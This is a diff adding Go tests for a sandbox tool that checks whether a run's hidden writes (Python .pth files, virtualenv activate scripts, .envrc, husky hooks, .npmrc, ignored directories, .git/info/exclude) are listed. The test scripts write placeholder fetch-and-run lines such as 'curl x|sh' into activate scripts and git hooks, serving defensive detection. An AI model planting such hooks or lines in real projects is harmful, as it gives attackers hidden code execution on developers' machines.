@@ -1,0 +1,125 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/jail-sandbox/jail/jail"
+)
+
+// TestUnseenWritesAreListed: each way a run can leave code that runs unasked on the host, or that
+// git does not show, is listed at the end of the run: on stderr, when jail's waiter ends the run
+// (jail re-executed to list them), and on stderr and in --report, when the host stays. The build
+// before listed nothing.
+func TestUnseenWritesAreListed(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		setup  map[string]string // files in the repository before the run (committed unless ignored)
+		script string
+		want   []string // substrings of the lines, one each
+	}{
+		{"pth in an ignored virtualenv", map[string]string{".gitignore": ".venv/\n", ".venv/lib/python3.11/site-packages/pip.py": ""},
+			"echo 'import os' > .venv/lib/python3.11/site-packages/evil.pth",
+			[]string{".venv/lib/python3.11/site-packages/evil.pth, which tools act on unasked: Python"}},
+		{"activate edited in place", map[string]string{".gitignore": ".venv/\n", ".venv/bin/activate": "# activate\n"},
+			"echo 'curl x|sh' >> .venv/bin/activate",
+			[]string{".venv/bin/activate, which tools act on unasked"}},
+		{"dotenv and a nested envrc", map[string]string{".gitignore": ".env\n", "sub/x": ""},
+			"echo 'A=1' > .env; echo 'curl x|sh' > sub/.envrc",
+			[]string{".env, which tools act on unasked: direnv's dotenv", "sub/.envrc, which tools act on unasked: direnv"}},
+		{"husky hook", nil, "mkdir -p .husky && echo 'curl x|sh' > .husky/pre-commit",
+			[]string{".husky/pre-commit, which tools act on unasked: husky"}},
+		{"cargo config", nil, "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
+			[]string{".cargo/config.toml, which tools act on unasked: cargo"}},
+		{"npmrc", nil, "echo 'script-shell=/tmp/x' > .npmrc",
+			[]string{".npmrc, which tools act on unasked: npm"}},
+		{"ignored build output", map[string]string{".gitignore": "build/\n"}, "mkdir -p build && echo x > build/a && echo y > build/b",
+			[]string{"2 file(s) under build/, which git does not show (ignored)"}},
+		{"excluded by info/exclude", map[string]string{".git/info/exclude": "secret.txt\n"}, "echo s > secret.txt",
+			[]string{"secret.txt, which git does not show (ignored)"}},
+		{"ignored file changed in place", map[string]string{".gitignore": "node_modules/\n", "node_modules/pkg/index.js": "module.exports = 1\n"},
+			"echo 'require(\"child_process\")' >> node_modules/pkg/index.js",
+			[]string{"1 file(s) under node_modules/, which git does not show (ignored)"}},
+		{"visible file renamed into an ignored place", map[string]string{".gitignore": "vendor/\n", "payload.py": "import os\n", "vendor/keep": ""},
+			"mv payload.py vendor/payload.py",
+			[]string{"1 file(s) under vendor/, which git does not show (ignored)"}},
+		{"symlink in an ignored place", map[string]string{".gitignore": ".venv/\n", ".venv/lib/python3.11/site-packages/pip.py": ""},
+			"ln -s ../../../../main.py .venv/lib/python3.11/site-packages/x.pth",
+			[]string{".venv/lib/python3.11/site-packages/x.pth, which tools act on unasked"}},
+	} {
+		for _, report := range []bool{false, true} {
+			name := c.name
+			if report {
+				name += ", reported"
+			}
+			t.Run(name, func(t *testing.T) {
+				proj, _ := project(t)
+				for p, text := range c.setup {
+					writeFile(t, filepath.Join(proj, p), text)
+				}
+				git(t, proj, "add", "-A")
+				git(t, proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "setup", "--allow-empty")
+				var args []string
+				reportFile := filepath.Join(t.TempDir(), "report.json")
+				if report {
+					args = []string{"--report", reportFile}
+				}
+				_, errOut, code := runJailIn(t, proj, "", append(args, "--", "sh", "-c", c.script)...)
+				if code != 0 {
+					t.Fatalf("exit %d: %s", code, errOut)
+				}
+				for _, w := range c.want {
+					if !strings.Contains(errOut, w) {
+						t.Errorf("stderr does not list %q:\n%s", w, errOut)
+					}
+				}
+				if report {
+					var r jail.Report
+					b, _ := os.ReadFile(reportFile)
+					if err := json.Unmarshal(b, &r); err != nil || len(r.UnseenWrites) == 0 {
+						t.Errorf("the report lists no unseen write: %v\n%s", err, b)
+					}
+				}
+			})
+		}
+	}
+}
+
+// TestNothingWrittenNothingListed: a run that writes nothing, or only what git shows (a tracked
+// file, a new untracked one), prints nothing about unseen writes.
+func TestNothingWrittenNothingListed(t *testing.T) {
+	proj, _ := project(t)
+	git(t, proj, "add", "-A")
+	git(t, proj, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "setup")
+	for _, script := range []string{"true", "echo x >> main.py; echo y > new.txt"} {
+		if _, errOut, code := runJailIn(t, proj, "", "--", "sh", "-c", script); code != 0 || strings.Contains(errOut, "the run wrote") {
+			t.Errorf("%q: exit %d, %s", script, code, errOut)
+		}
+	}
+}
+
+// TestUnseenWritesOutsideARepository: outside any repository, git shows nothing: every file the
+// run wrote is listed, counted under the directory it lies in.
+func TestUnseenWritesOutsideARepository(t *testing.T) {
+	dir := t.TempDir()
+	_, errOut, code := runJailIn(t, dir, "", "--", "sh", "-c", "echo a > a.txt; mkdir d; echo b > d/b; echo c > d/c")
+	if code != 0 || !strings.Contains(errOut, "a.txt, which git does not show (outside any git repository)") ||
+		!strings.Contains(errOut, "2 file(s) under d/, which git does not show (outside any git repository)") {
+		t.Errorf("exit %d:\n%s", code, errOut)
+	}
+}
+
+// TestExcludeFileWriteIsListed: a run that adds to .git/info/exclude, hiding files from git
+// status, is listed for it, when the profile lets it write there at all.
+func TestExcludeFileWriteIsListed(t *testing.T) {
+	proj, _ := project(t)
+	exclude := filepath.Join(proj, ".git", "info", "exclude")
+	before := readFile(t, exclude)
+	_, errOut, _ := runJailIn(t, proj, "", "--", "sh", "-c", "echo '*.pth' >> .git/info/exclude")
+	if readFile(t, exclude) != before && !strings.Contains(errOut, ".git/info/exclude, which tools act on unasked: git hides") {
+		t.Errorf(".git/info/exclude changed and jail did not say so:\n%s", errOut)
+	}
+}
